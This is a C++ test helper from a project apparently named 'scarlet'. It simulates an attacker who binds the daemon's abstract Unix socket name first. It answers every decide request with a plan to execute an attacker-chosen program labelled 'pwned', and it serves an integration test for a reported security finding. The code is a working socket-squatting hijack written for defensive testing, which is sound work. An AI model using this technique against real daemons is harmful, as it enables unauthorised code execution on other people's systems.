// scarlet-squatter: what an attacker who binds the daemon's abstract name
// first would run (issue 11, finding 4): it answers every decide request
// with a plan to run its own program, passing that program as the runtime
// fd (as the daemon does for chroots, whose roots lack the runtime). Prints
// "ready" once it listens. Used by tests/integration/chroot_test.cc.
//   scarlet-squatter NAME PROGRAM
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdio>
#include <string>

#include "daemon/server.h"
#include "scarlet/fd_message.h"
#include "scarlet/protocol.h"
#include "scarlet/unique_fd.h"

using namespace scarlet;

int main(int argc, char** argv) {
  if (argc != 3) {
    std::fprintf(stderr, "usage: scarlet-squatter NAME PROGRAM\n");
    return 2;
  }
  auto listener = daemon::listen_abstract(argv[1]);
  UniqueFd program(::open(argv[2], O_RDONLY | O_CLOEXEC));
  if (!listener.ok() || !program) {
    std::fprintf(stderr, "scarlet-squatter: cannot listen at @%s or open %s\n", argv[1], argv[2]);
    return 1;
  }
  wire::DecideReply plan;
  plan.format = "elf:aarch64";
  plan.exec_path = argv[2];
  plan.argv = {"pwned"};
  const std::string frame = wire::encode(plan);
  std::printf("ready\n");
  std::fflush(stdout);
  for (;;) {
    UniqueFd c(::accept4(listener->get(), nullptr, nullptr, SOCK_CLOEXEC));
    if (!c) continue;
    char buf[4096];
    if (::read(c.get(), buf, sizeof buf) <= 0) continue;
    auto msg = FdMessage::to_send(frame.data(), frame.size(), program.get());
    [[maybe_unused]] auto n = ::sendmsg(c.get(), msg.get(), MSG_NOSIGNAL);
  }
}
